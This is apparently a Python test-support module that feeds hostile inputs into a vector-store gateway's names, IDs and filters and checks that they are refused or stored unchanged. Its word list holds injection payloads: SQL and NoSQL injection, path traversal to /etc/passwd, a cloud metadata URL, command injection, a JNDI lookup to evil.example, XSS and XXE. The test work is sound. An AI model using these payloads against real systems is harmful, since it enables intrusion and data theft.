"""Hostile words and filters: refused where a name belongs, and mere text where a value does."""

from __future__ import annotations

from collections.abc import Callable, Iterator, Mapping
from typing import Any

from hamcrest import assert_that

from support.drivers.gateway import Answer
from support.matchers.answers import succeeded
from support.matchers.every import every_item
from support.vocabulary import documents, searches
from support.vocabulary.misuse import internals_shown
from support.world import World

LONGEST_VALUE = 4096
# More than any refusal needs to say; more would be what was sent, thrown back.
LARGEST_REFUSAL = 16 * 1024

# None of them can be a name; all but the longest and the one with NUL can be a value.
WORDS: Mapping[str, str] = {
    "a condition that is always true": "x' OR '1'='1",
    "a statement": "'); DROP TABLE users; --",
    "another store's operator": '{"$ne": null}',
    "a folder": "../../../etc/passwd",
    "an encoded folder": "..%2f..%2fetc%2fpasswd",
    "a drive": "C:\\Windows\\win.ini",
    "an address": "http://169.254.169.254/latest/meta-data/",
    "a template": "{{7*7}}${7*7}#{7*7}",
    "a command": "$(id)`id`|id;id",
    "a look-up": "${jndi:ldap://evil.example/a}",
    "a format": "%s%n{0.__class__}",
    "a script": "<script>alert(1)</script>",
    "an outer entity": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
    "a header": "x\r\nX-Injected: 1",
    "a colour of the terminal": "\x1b[31mred",
    "a NUL": "x\x00y",
    "a letter that looks like another": "h\u0430ndbook",
    "wide letters": "\uff48\uff41\uff4e\uff44\uff42\uff4f\uff4f\uff4b",
    "a joined letter and its parts": "e\u0301",
    "writing from right to left": "\u202egnp.exe",
    "an invisible letter": "hand\u200bbook",
    "a wildcard": "*",
    "a blank": " ",
    "an endless word": "a" * 5000,
}


def _name(world: World) -> str:
    return world.names.collection(world.collection)


def _in_new_collection(world: World, word: str) -> Answer:
    # With the prefix, so that one that is made in spite of its name is found and removed.
    return world.citadel.gateway.call(
        "createCollection", json_body={"name": f"{world.names.prefix}{word}", "vector_size": 4}, key=world.key
    )


def insert(world: World, **members: object) -> Answer:
    """Submit a document of which ``members`` are hostile."""
    body = {"collection": _name(world), "id": "hostile", "text": "A text.", **members}
    return world.citadel.gateway.call("insertVector", json_body=body, key=world.key)


def search(world: World, **members: object) -> Answer:
    """A search of which ``members`` are hostile."""
    body = {"collection": _name(world), "query_text": "a text", **members}
    return world.citadel.gateway.call("searchVectors", json_body=body, key=world.key)


def _get(operation: str, member: str) -> Callable[[World, str], Answer]:
    """Ask for a thing whose name in the address is the word."""

    def ask(world: World, word: str) -> Answer:
        path: dict[str, Any] = {member: word}
        return world.citadel.gateway.call(operation, key=world.key, **path)

    return ask


# Where a name or a choice belongs, and how a word gets there.
PLACES: Mapping[str, Callable[[World, str], Answer]] = {
    "the name of a collection": _get("getCollection", "collection"),
    "the name of a new collection": _in_new_collection,
    "the collection of a search": lambda world, word: search(world, collection=word),
    "the id of a document": lambda world, word: world.citadel.gateway.call(
        "getVector", collection=_name(world), vector_id=word, key=world.key
    ),
    "the id of a new document": lambda world, word: insert(world, id=word),
    "the name of a metadata value": lambda world, word: insert(world, metadata={word: 1}),
    "the name in a filter": lambda world, word: search(world, filter={word: 1}),
    "the operator of a filter": lambda world, word: search(world, filter={"lang": {word: 1}}),
    "a member of a request": lambda world, word: search(world, **{word: 1}),
    "the model of a text": lambda world, word: insert(world, model=word),
    "the name of a model": _get("getModel", "model"),
    "the name of a provider": _get("getProviderStatus", "provider"),
    "the order of providers": lambda world, word: world.citadel.gateway.call(
        "embedWithProvider",
        provider="openai",
        json_body={"texts": ["a text"], "failover": [word]},
        key=world.key,
    ),
    "the number of a job": _get("getJobStatus", "job_id"),
    "the state of jobs to list": lambda world, word: world.citadel.gateway.call(
        "listJobs", query={"status": word}, key=world.key
    ),
    "the place in a list": lambda world, word: world.citadel.gateway.call(
        "listVectors", collection=_name(world), query={"cursor": word}, key=world.key
    ),
    "the size of a page": lambda world, word: world.citadel.gateway.call(
        "listCollections", query={"limit": word}, key=world.key
    ),
}


def try_words(world: World, place: str) -> list[str]:
    """What is wrong with the answers to every hostile word in one place."""
    world.wrote = True
    return [
        f"{what}: {complaint}"
        for what, word in WORDS.items()
        for complaint in _complaints(PLACES[place](world, word))
    ]


def _complaints(answer: Answer) -> Iterator[str]:
    """What a refusal of something hostile may not be."""
    if not 400 <= answer.status < 500:
        yield f"not refused: {answer}"
    if shown := internals_shown(answer):
        yield f"the refusal shows {', '.join(shown)}: {answer}"
    if len(answer.text) > LARGEST_REFUSAL:
        yield f"the refusal is {len(answer.text)} characters long: {answer}"
    if "x-injected" in answer.headers:
        yield f"the word became a header: {answer}"


def store_words(world: World) -> None:
    """A document for each word that can be a value, with it in its text and its metadata."""
    kept = {what: word for what, word in WORDS.items() if "\x00" not in word and len(word) <= LONGEST_VALUE}
    world.evidence["kept"] = kept
    answers = [
        documents.store(world, what, f"It says: {word}", {"word": word, "words": [word, "other"]})
        for what, word in kept.items()
    ]
    assert_that(answers, every_item(succeeded()))


def changed_words(world: World) -> list[str]:
    """Words that are not read as they were written, or not found by themselves alone."""
    wrong = []
    for what, word in world.evidence["kept"].items():
        read = documents.read(world, what).body
        if (read["text"], read["metadata"]) != (f"It says: {word}", {"word": word, "words": [word, "other"]}):
            wrong.append(f"{what}: read as {read['text']!r} and {read['metadata']!r}")
        for name in ("word", "words"):
            found = searches.ask(world, "what does it say", filter={name: word}, limit=len(WORDS))
            titles = [world.names.alias_of(item["id"]) for item in found.body["results"]]
            if titles != [what]:
                wrong.append(f"{what}: a filter for it in {name} finds {titles}")
    return wrong


# A store's own language, or code, where a condition belongs.
FILTERS: Mapping[str, object] = {
    "conditions of the vector store": {"must": [{"key": "lang", "match": {"value": "en"}}]},
    "a negation of the vector store": {"must_not": [{"has_id": [1]}]},
    "a condition of the vector store": {"lang": {"match": {"value": "en"}}},
    "an operator of another store": {"lang": {"$ne": None}},
    "a function": {"lang": {"$where": "sleep(1000)"}},
    "a regular expression": {"lang": {"$regex": "(a+)+$"}},
    "an object among the values": {"lang": {"any": [{"$ne": 1}]}},
    "a path into the payload": {"citadel.version": 1},
    "a path into a list": {"tags[0]": 1},
    "everything and nothing": {"": ""},
    "no condition": {},
    "a list of conditions": [{"lang": "en"}],
    "code": "lang == 'en' or True",
    "bounds that are text": {"lang": {"gt": "a' OR '1'='1"}},
    "too many conditions": {f"key_{number}": number for number in range(17)},
    "an endless choice": {"lang": {"any": list(range(10_000))}},
}


def filters_not_refused(world: World) -> list[str]:
    """Filters in another language than the contract's that were not refused as what they are."""
    answers = {what: search(world, filter=conditions) for what, conditions in FILTERS.items()}
    wrong = [f"{what}: {each}" for what, answer in answers.items() for each in _complaints(answer)]
    return wrong + [
        f"{what}: {answer}" for what, answer in answers.items() if answer.code != "validation-failed"
    ]
